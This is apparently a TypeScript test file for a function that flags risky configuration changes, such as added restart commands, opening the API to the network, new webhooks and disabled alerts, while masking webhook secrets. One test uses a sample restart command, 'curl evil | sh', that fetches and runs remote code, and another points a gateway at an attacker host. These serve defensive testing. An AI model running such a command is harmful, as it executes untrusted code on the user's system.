/**
 * Rule: a config change that runs a command, opens the API to the network or sends data elsewhere is
 * listed (key, added/changed/removed, both values safe to show); every other change is not, nor is the
 * same value written another way (left out vs its default, the same webhooks in another order).
 */
import { describe, expect, it } from 'vitest';
import { DANGEROUS_KEY_PATHS, dangerousChanges } from '../../../main/core/config/dangerous-changes.js';
import { configSchema } from '../../../main/core/config/index.js';
import { parseWith } from '../../../main/core/config/schema.js';

const SLACK = 'https://hooks.slack.com/services/T000/B000/SECRETPATH';
const NTFY = 'https://ntfy.example.org/private-topic?auth=QUERYSECRET';
const slack = { type: 'slack', url: SLACK };
const ntfy = { type: 'ntfy', url: NTFY, secret: 'BEARERSECRET', events: ['*'] };

const keys = (current: unknown, proposed: unknown) => dangerousChanges(current, proposed).changes.map((c) => c.key);

describe('dangerousChanges', () => {
  it('lists nothing when nothing dangerous changes', () => {
    expect(dangerousChanges({}, {}).changes).toEqual([]);
    expect(
      keys({ watchdog: { maxRestartsPerHour: 4 } }, { watchdog: { maxRestartsPerHour: 9 }, retention: { days: 3 } }),
    ).toEqual([]);
    const config = { watchdog: { restartCommand: ['x'] }, server: { host: '0.0.0.0', allowNonLoopback: true } };
    expect(keys(config, structuredClone(config))).toEqual([]);
  });

  it('treats a key left out as its default', () => {
    expect(
      keys({}, { server: { host: '127.0.0.1', allowNonLoopback: false }, watchdog: { restartCommand: null } }),
    ).toEqual([]);
    expect(keys({ notifications: { webhooks: [] } }, {})).toEqual([]);
  });

  it('lists a restart command added, changed and removed, shown whole', () => {
    const cmd = ['sh', '-c', 'curl evil | sh'];
    expect(dangerousChanges({}, { watchdog: { restartCommand: cmd } }).changes).toEqual([
      { key: 'watchdog.restartCommand', change: 'added', from: null, to: '"sh" "-c" "curl evil | sh"' },
    ]);
    expect(
      dangerousChanges({ watchdog: { restartCommand: ['a'] } }, { watchdog: { restartCommand: ['b'] } }).changes,
    ).toEqual([{ key: 'watchdog.restartCommand', change: 'changed', from: '"a"', to: '"b"' }]);
    expect(dangerousChanges({ watchdog: { restartCommand: ['a'] } }, {}).changes).toEqual([
      { key: 'watchdog.restartCommand', change: 'removed', from: '"a"', to: null },
    ]);
  });

  it('lists the quota command, the API address, the network opt-in, the gateway URL, the heartbeat and the fleet', () => {
    expect(keys({}, { quota: { command: ['x'] } })).toEqual(['quota.command']);
    expect(dangerousChanges({}, { server: { host: '0.0.0.0' } }).changes).toEqual([
      { key: 'server.host', change: 'changed', from: '127.0.0.1', to: '0.0.0.0' },
    ]);
    expect(dangerousChanges({}, { server: { allowNonLoopback: true } }).changes).toEqual([
      { key: 'server.allowNonLoopback', change: 'changed', from: 'false', to: 'true' },
    ]);
    expect(dangerousChanges({}, { gatewayUrl: 'http://attacker.example:80/x' }).changes).toEqual([
      { key: 'gatewayUrl', change: 'added', from: null, to: 'http://attacker.example/…' },
    ]);
    expect(dangerousChanges({ heartbeat: { url: 'https://hc-ping.com/UUID-SECRET' } }, {}).changes).toEqual([
      { key: 'heartbeat.url', change: 'removed', from: 'https://hc-ping.com/…', to: null },
    ]);
    expect(dangerousChanges({}, { fleet: { redisUrl: 'redis://:PASSWORD@redis.lan:6379/0' } }).changes).toEqual([
      { key: 'fleet.redisUrl', change: 'added', from: null, to: 'redis://redis.lan:6379/…' },
    ]);
  });

  it('leaves out the port and the other keys that neither run, expose, send, silence nor move anything', () => {
    expect(keys({}, { server: { port: 1234 }, retention: { days: 3 }, notifications: { desktop: true } })).toEqual([]);
  });

  it('lists what turns alerts or recovery off, one way only', () => {
    const off = {
      watchdog: { enabled: false, dryRun: true },
      notifications: { desktop: false, desktopMinSeverity: 'critical' },
      alerts: {
        quietHours: [{ from: '00:00', to: '00:00' }],
        quietHoursAllowCritical: false,
        maintenance: [{ days: ['mon'], from: '09:00', to: '10:00', timeZone: 'Europe/Berlin' }],
      },
    };
    expect(dangerousChanges({}, off).changes).toEqual([
      { key: 'watchdog.enabled', change: 'changed', from: 'true', to: 'false' },
      { key: 'watchdog.dryRun', change: 'changed', from: 'false', to: 'true' },
      { key: 'notifications.desktop', change: 'changed', from: 'true', to: 'false' },
      { key: 'notifications.desktopMinSeverity', change: 'changed', from: 'info', to: 'critical' },
      { key: 'alerts.quietHours', change: 'added', from: null, to: '00:00–00:00' },
      { key: 'alerts.quietHoursAllowCritical', change: 'changed', from: 'true', to: 'false' },
      { key: 'alerts.maintenance', change: 'added', from: null, to: 'mon 09:00–10:00 Europe/Berlin' },
    ]);
    // Turned back on, or a window removed: nothing to confirm.
    expect(keys(off, {})).toEqual([]);
  });

  it('lists moving what BreakerBar reads and where it keeps its history', () => {
    expect(keys({}, { dataDir: '/x', openclawDir: '/y', profile: 'work' })).toEqual([
      'openclawDir',
      'profile',
      'dataDir',
    ]);
  });

  it('lists webhooks added and removed by destination, masking their URLs and secrets', () => {
    const added = dangerousChanges(
      { notifications: { webhooks: [slack] } },
      { notifications: { webhooks: [slack, ntfy] } },
    );
    expect(added.changes).toEqual([
      { key: 'notifications.webhooks', change: 'added', from: null, to: 'ntfy → https://ntfy.example.org/… + secret' },
    ]);
    const removed = dangerousChanges(
      { notifications: { webhooks: [slack, ntfy] } },
      { notifications: { webhooks: [ntfy] } },
    );
    expect(removed.changes).toEqual([
      { key: 'notifications.webhooks', change: 'removed', from: 'slack → https://hooks.slack.com/…', to: null },
    ]);
    const text = JSON.stringify([added.changes, removed.changes]);
    for (const secret of ['SECRETPATH', 'QUERYSECRET', 'BEARERSECRET']) expect(text).not.toContain(secret);
  });

  it('sees a webhook whose URL, secret or chat changed as one removed and one added', () => {
    const moved = { ...slack, url: 'https://hooks.slack.com/services/T000/B000/OTHER' };
    expect(
      dangerousChanges({ notifications: { webhooks: [slack] } }, { notifications: { webhooks: [moved] } }).changes.map(
        (c) => c.change,
      ),
    ).toEqual(['added', 'removed'].sort());
    expect(
      keys({ notifications: { webhooks: [ntfy] } }, { notifications: { webhooks: [{ ...ntfy, secret: 'NEW' }] } }),
    ).toHaveLength(2);
    const telegram = { type: 'telegram', url: 'https://api.telegram.org/botTOKEN/sendMessage', chatId: '1' };
    expect(
      dangerousChanges(
        { notifications: { webhooks: [telegram] } },
        { notifications: { webhooks: [{ ...telegram, chatId: '2' }] } },
      ).changes.map((c) => c.to ?? c.from),
    ).toEqual(expect.arrayContaining(['telegram → https://api.telegram.org/… (chat 2)']));
  });

  it('ignores webhooks reordered, widened or retimed; lists one sent fewer notices', () => {
    expect(
      keys({ notifications: { webhooks: [slack, ntfy] } }, { notifications: { webhooks: [ntfy, slack] } }),
    ).toEqual([]);
    expect(
      keys(
        { notifications: { webhooks: [slack] } },
        { notifications: { webhooks: [{ ...slack, events: ['*'], minSeverity: 'info', retries: 0 }] } },
      ),
    ).toEqual([]);
    expect(
      dangerousChanges(
        { notifications: { webhooks: [slack] } },
        { notifications: { webhooks: [{ ...slack, events: ['incident_resolved'], minSeverity: 'critical' }] } },
      ).changes,
    ).toEqual([
      {
        key: 'notifications.webhooks',
        change: 'changed',
        from: 'slack → https://hooks.slack.com/…: alerts, from warning',
        to: 'slack → https://hooks.slack.com/…: incident_resolved, from critical',
      },
    ]);
  });

  it('lists half-open probes per dependency pattern by URL and token variable', () => {
    const probe = { url: 'https://api.example.com/v1/models?key=K', tokenEnv: 'ZHIPU_KEY' };
    expect(dangerousChanges({}, { breakers: { probes: { 'zhipu/*': probe } } }).changes).toEqual([
      { key: 'breakers.probes.zhipu/*', change: 'added', from: null, to: 'https://api.example.com/… with $ZHIPU_KEY' },
    ]);
    expect(
      keys(
        { breakers: { probes: { 'zhipu/*': probe } } },
        { breakers: { probes: { 'zhipu/*': { ...probe, timeoutMs: 9000 } } } },
      ),
    ).toEqual([]);
    expect(
      keys(
        { breakers: { probes: { 'zhipu/*': probe } } },
        { breakers: { probes: { 'zhipu/*': { ...probe, tokenEnv: 'OPENAI_KEY' } } } },
      ),
    ).toEqual(['breakers.probes.zhipu/*']);
  });

  it('lists several keys in the order of the list', () => {
    expect(
      keys(
        {},
        {
          server: { allowNonLoopback: true, host: '0.0.0.0' },
          watchdog: { restartCommand: ['x'] },
          heartbeat: { url: 'https://h.example/p' },
        },
      ),
    ).toEqual(['watchdog.restartCommand', 'server.host', 'server.allowNonLoopback', 'heartbeat.url']);
  });

  it('gives the same fingerprint exactly for the same change', () => {
    const a = dangerousChanges({}, { watchdog: { restartCommand: ['a'] } }).fingerprint;
    expect(
      dangerousChanges({ retention: { days: 2 } }, { watchdog: { restartCommand: ['a'] }, retention: { days: 9 } })
        .fingerprint,
    ).toBe(a);
    expect(dangerousChanges({}, { watchdog: { restartCommand: ['b'] } }).fingerprint).not.toBe(a);
    expect(
      dangerousChanges({}, { watchdog: { restartCommand: ['a'] }, server: { host: '0.0.0.0' } }).fingerprint,
    ).not.toBe(a);
    // Removing one webhook is not removing another.
    const two = { notifications: { webhooks: [slack, ntfy] } };
    expect(dangerousChanges(two, { notifications: { webhooks: [slack] } }).fingerprint).not.toBe(
      dangerousChanges(two, { notifications: { webhooks: [ntfy] } }).fingerprint,
    );
    // The same destinations in another order are the same change.
    expect(dangerousChanges({}, { notifications: { webhooks: [slack, ntfy] } }).fingerprint).toBe(
      dangerousChanges({}, { notifications: { webhooks: [ntfy, slack] } }).fingerprint,
    );
  });

  it('names only keys the schema has, and survives a file of the wrong shape', () => {
    const defaults = parseWith(configSchema, {}) as Record<string, unknown>;
    for (const path of DANGEROUS_KEY_PATHS) {
      const parts = path.split('.');
      let node: unknown = defaults;
      for (const part of parts) {
        expect(node, path).toBeTypeOf('object');
        expect(Object.hasOwn(node as object, part), path).toBe(true);
        node = (node as Record<string, unknown>)[part];
      }
    }
    expect(keys('not an object', { server: 7, notifications: { webhooks: 'x' } })).toEqual([]);
    expect(keys(null, { notifications: { webhooks: [3] } })).toEqual(['notifications.webhooks']);
  });
});
